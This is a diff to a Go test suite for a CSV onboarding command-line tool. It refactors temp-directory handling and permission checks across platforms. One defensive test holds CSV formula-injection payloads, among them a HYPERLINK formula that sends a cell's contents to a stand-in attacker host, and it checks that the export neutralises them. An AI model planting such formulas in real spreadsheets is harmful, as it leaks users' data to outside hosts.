@@ -17,7 +17,9 @@ import (
 
 	"github.com/chorusonboard/chorus-onboard/core"
 	"github.com/chorusonboard/chorus-onboard/core/csvio"
+	"github.com/chorusonboard/chorus-onboard/core/localfs"
 	"github.com/chorusonboard/chorus-onboard/core/sqlite"
+	"github.com/chorusonboard/chorus-onboard/internal/testos"
 )
 
 // shortHeader is the import header the tests below use.
@@ -28,7 +30,7 @@ const shortHeader = "identifier;company_name;address;city;postal_code;phone\n"
 // and identifiers too, so Excel keeps them as text; and the file re-imports
 // identically.
 func TestExportCannotRunFormulas(t *testing.T) {
-	db := filepath.Join(t.TempDir(), "onboard.db")
+	db := filepath.Join(testos.TempDir(t), "onboard.db")
 	payloads := []string{`=HYPERLINK("http://evil.example/?"&A1;"Cliquez")`, "@SUM(1+1)", "+SUM(1;2)", "-2+3",
 		"\tTAB", "\rCR", "'=quoted already"}
 	ids := sirets(len(payloads))
@@ -58,7 +60,7 @@ func TestExportCannotRunFormulas(t *testing.T) {
 		t.Errorf("the phone is not kept as text: %s", exported)
 	}
 	// Re-imported: the same values, the apostrophes gone.
-	db2 := filepath.Join(t.TempDir(), "again.db")
+	db2 := filepath.Join(testos.TempDir(t), "again.db")
 	if code, out, errOut := runCLI(t, exported, nil, "import", "--db", db2, "-"); code != 0 {
 		t.Fatalf("re-import: %d\n%s%s", code, out, errOut)
 	}
@@ -110,7 +112,7 @@ func splitCSVLine(t *testing.T, line string) []string {
 func TestNothingDroppedSilently(t *testing.T) {
 	ids := sirets(12)
 	row := func(i int) string { return ids[i] + ";Société " + fmt.Sprint(i) + ";1 rue;Paris;75002;\n" }
-	dir := t.TempDir()
+	dir := testos.TempDir(t)
 	// An unclosed quote on line 3 of a 10-line file.
 	var f strings.Builder
 	f.WriteString(shortHeader)
@@ -191,7 +193,7 @@ func TestHugeFieldBoundedMemory(t *testing.T) {
 			}
 		}
 	}()
-	code := run([]string{"import", "--db", filepath.Join(t.TempDir(), "h.db"), "-"}, env{stdin: r, stdout: &out, stderr: &errOut, getenv: func(string) string { return "" }})
+	code := run([]string{"import", "--db", filepath.Join(testos.TempDir(t), "h.db"), "-"}, env{stdin: r, stdout: &out, stderr: &errOut, getenv: func(string) string { return "" }})
 	close(done)
 	t.Logf("a 300 MB field: exit %d, %q, heap peak %d MiB", code, out.String(), peak>>20)
 	if code != 1 || !strings.Contains(out.String(), "line 2: company_name: csv.too_long") || !strings.HasSuffix(out.String(), "imported 1, updated 0, rejected 1\n") {
@@ -204,63 +206,85 @@ func TestHugeFieldBoundedMemory(t *testing.T) {
 
 // TestReadOnlyAndDamagedDatabases (item 10).
 func TestReadOnlyAndDamagedDatabases(t *testing.T) {
-	dir := t.TempDir()
+	dir := testos.TempDir(t)
 	db := filepath.Join(dir, "onboard.db")
 	if code, out, _ := runCLI(t, csvRows(sirets(3)), nil, "import", "--db", db, "-"); code != 0 {
 		t.Fatal(out)
 	}
-	// Loose permissions are tightened, and said once.
-	if err := os.Chmod(db, 0o644); err != nil {
-		t.Fatal(err)
-	}
-	_, _, errOut := runCLI(t, csvRows(sirets(1)), nil, "import", "--db", db, "-")
-	if !strings.Contains(errOut, "readable by other users") {
-		t.Fatalf("no word of the permissions: %q", errOut)
-	}
-	if fi, _ := os.Stat(db); fi.Mode().Perm() != 0o600 {
-		t.Fatalf("mode %v", fi.Mode().Perm())
-	}
-	if _, _, errOut := runCLI(t, csvRows(sirets(1)), nil, "import", "--db", db, "-"); strings.Contains(errOut, "readable") {
-		t.Fatalf("said twice: %q", errOut)
-	}
-	// list, export and status on a file and directory nobody may write.
-	if os.Geteuid() == 0 {
-		if _, err := exec.LookPath("setpriv"); err != nil {
-			t.Skip("running as root without setpriv: cannot drop to a user the file modes bind")
+	t.Run("loose permissions are tightened and said once", func(t *testing.T) {
+		testos.SkipUnderWine(t, "ACL")
+		testos.Share(t, db)
+		_, _, errOut := runCLI(t, csvRows(sirets(1)), nil, "import", "--db", db, "-")
+		if !strings.Contains(errOut, "readable by other users") {
+			t.Fatalf("no word of the permissions: %q", errOut)
 		}
-	}
-	// Outside t.TempDir, whose parent only its owner may enter.
-	roDir, err := os.MkdirTemp("", "onboardctl-ro-")
-	if err != nil {
-		t.Fatal(err)
-	}
-	t.Cleanup(func() { os.Chmod(roDir, 0o755); os.RemoveAll(roDir) })
-	if err := os.Chmod(roDir, 0o755); err != nil {
-		t.Fatal(err)
-	}
-	ro := filepath.Join(roDir, "onboard.db")
-	copyFile(t, db, ro, 0o444)
-	if err := os.Chmod(roDir, 0o555); err != nil {
-		t.Fatal(err)
-	}
-	for _, args := range [][]string{{"list"}, {"export"}, {"status"}} {
-		code, out, errOut := runAsOther(t, append(args, "--db", ro)...)
-		if code != 0 || !strings.Contains(out, "queued") {
-			t.Fatalf("%s on a read-only database: exit %d\n%s%s", args[0], code, out, errOut)
+		if ok, err := localfs.Private(db); !ok || err != nil {
+			t.Fatalf("the database is still open to others (%v)", err)
 		}
-	}
-	// A damaged database: import refuses it and changes nothing.
-	bad := filepath.Join(t.TempDir(), "bad.db")
-	copyFile(t, db, bad, 0o600)
-	damage(t, bad)
-	before := sha(t, bad)
-	code, out, errOut := runCLI(t, csvRows(sirets(1)), nil, "import", "--db", bad, "-")
-	if code != 2 || !strings.Contains(errOut, "damaged") || !strings.Contains(errOut, "nothing was changed") || out != "" {
-		t.Fatalf("damaged database: exit %d\n%s%s", code, out, errOut)
-	}
-	if sha(t, bad) != before {
-		t.Fatal("the damaged database was changed")
-	}
+		if _, _, errOut := runCLI(t, csvRows(sirets(1)), nil, "import", "--db", db, "-"); strings.Contains(errOut, "readable") {
+			t.Fatalf("said twice: %q", errOut)
+		}
+	})
+	t.Run("list, export and status on a database nobody may write", func(t *testing.T) {
+		// Outside t.TempDir, whose parent only its owner may enter.
+		roDir, err := os.MkdirTemp("", "onboardctl-ro-")
+		if err != nil {
+			t.Fatal(err)
+		}
+		t.Cleanup(func() {
+			os.Chmod(roDir, 0o755)
+			os.Chmod(filepath.Join(roDir, "onboard.db"), 0o644)
+			os.RemoveAll(roDir)
+		})
+		ro := filepath.Join(roDir, "onboard.db")
+		run := runCLIArgs
+		if runtime.GOOS == "windows" {
+			// The read-only attribute: what Windows' "Read-only" box and a
+			// file copied from a CD or a protected share give. (A
+			// directory's read-only attribute does not stop writes in it.)
+			copyFile(t, db, ro, 0o444)
+		} else {
+			if os.Geteuid() == 0 {
+				if _, err := exec.LookPath("setpriv"); err != nil {
+					t.Skip("running as root without setpriv: cannot drop to a user the file modes bind")
+				}
+			}
+			if err := os.Chmod(roDir, 0o755); err != nil {
+				t.Fatal(err)
+			}
+			copyFile(t, db, ro, 0o444)
+			if err := os.Chmod(roDir, 0o555); err != nil {
+				t.Fatal(err)
+			}
+			run = runAsOther
+		}
+		for _, args := range [][]string{{"list"}, {"export"}, {"status"}} {
+			code, out, errOut := run(t, append(args, "--db", ro)...)
+			if code != 0 || !strings.Contains(out, "queued") {
+				t.Fatalf("%s on a read-only database: exit %d\n%s%s", args[0], code, out, errOut)
+			}
+		}
+	})
+	t.Run("import refuses a damaged database and changes nothing", func(t *testing.T) {
+		bad := filepath.Join(testos.TempDir(t), "bad.db")
+		copyFile(t, db, bad, 0o600)
+		damage(t, bad)
+		before := sha(t, bad)
+		code, out, errOut := runCLI(t, csvRows(sirets(1)), nil, "import", "--db", bad, "-")
+		if code != 2 || !strings.Contains(errOut, "damaged") || !strings.Contains(errOut, "nothing was changed") || out != "" {
+			t.Fatalf("damaged database: exit %d\n%s%s", code, out, errOut)
+		}
+		if sha(t, bad) != before {
+			t.Fatal("the damaged database was changed")
+		}
+	})
+}
+
+// runCLIArgs runs onboardctl in this process with no input and the
+// test's environment.
+func runCLIArgs(t *testing.T, args ...string) (int, string, string) {
+	t.Helper()
+	return runCLI(t, "", nil, args...)
 }
 
 // runAsOther runs onboardctl as the user nobody when the test runs as root
@@ -286,7 +310,7 @@ func runAsOther(t *testing.T, args ...string) (int, string, string) {
 	if os.Geteuid() == 0 {
 		cmd = exec.Command("setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", bin, "-test.run=^$")
 	}
-	cmd.Env = append(os.Environ(), childEnv+"="+string(a), "HOME=/nonexistent", core.DataDirEnv+"=/nonexistent/data")
+	cmd.Env = append(os.Environ(), childEnv+"="+string(a), "HOME=/nonexistent", localfs.DataDirEnv+"=/nonexistent/data")
 	var out, errOut bytes.Buffer
 	cmd.Stdout, cmd.Stderr = &out, &errOut
 	err = cmd.Run()
@@ -350,7 +374,7 @@ func sha(t *testing.T, path string) string {
 // TestBadPortalURL (item 11): a URL that is not http(s) is a usage error,
 // at once.
 func TestBadPortalURL(t *testing.T) {
-	db := filepath.Join(t.TempDir(), "onboard.db")
+	db := filepath.Join(testos.TempDir(t), "onboard.db")
 	for _, u := range []string{"file:///x", "htp://x", "portal.example", "https://user:pw@portal.example"} {
 		start := time.Now()
 		code, out, errOut := runCLI(t, "pw\n", nil, "sync", "--db", db, "--portal", u, "--email", "a@b.fr", "--password-stdin", "--timeout", "1m")
@@ -368,7 +392,7 @@ var _ = sqlite.SchemaVersion
 // imports again.
 func TestImportRejectedFile(t *testing.T) {
 	ids := sirets(3)
-	dir := t.TempDir()
+	dir := testos.TempDir(t)
 	db, rejected := filepath.Join(dir, "a.db"), filepath.Join(dir, "rejected.csv")
 	in := shortHeader + ids[0] + ";Bon;1 rue;Paris;75002;\n" + ids[1] + ";;1 rue;Paris;75002;\n" + ids[2] + ";Sans CP;1 rue;Paris;;\n"
 	code, out, _ := runCLI(t, in, map[string]string{"LANG": "fr_FR.UTF-8"}, "import", "--db", db, "--rejected", rejected, "-")
@@ -383,8 +407,10 @@ func TestImportRejectedFile(t *testing.T) {
 	if !strings.HasPrefix(got, "\ufefferreur;") || strings.Count(got, "\n") != 3 || !strings.Contains(got, "ligne 3: Raison sociale") {
 		t.Fatalf("rejected rows:\n%s", got)
 	}
-	if fi, _ := os.Stat(rejected); fi.Mode().Perm()&0o077 != 0 {
-		t.Errorf("the rejected rows are readable by others: %v", fi.Mode())
+	if !testos.UnderWine(t, "ACL") {
+		if ok, err := localfs.Private(rejected); !ok || err != nil {
+			t.Errorf("the rejected rows are readable by others (%v)", err)
+		}
 	}
 	fixed := strings.Replace(strings.Replace(got, ";;1 rue;Paris;'75002;", ";Corrigé;1 rue;Paris;'75002;", 1), ";Paris;;", ";Paris;75002;", 1)
 	code, out, _ = runCLI(t, fixed, nil, "import", "--db", db, "-")
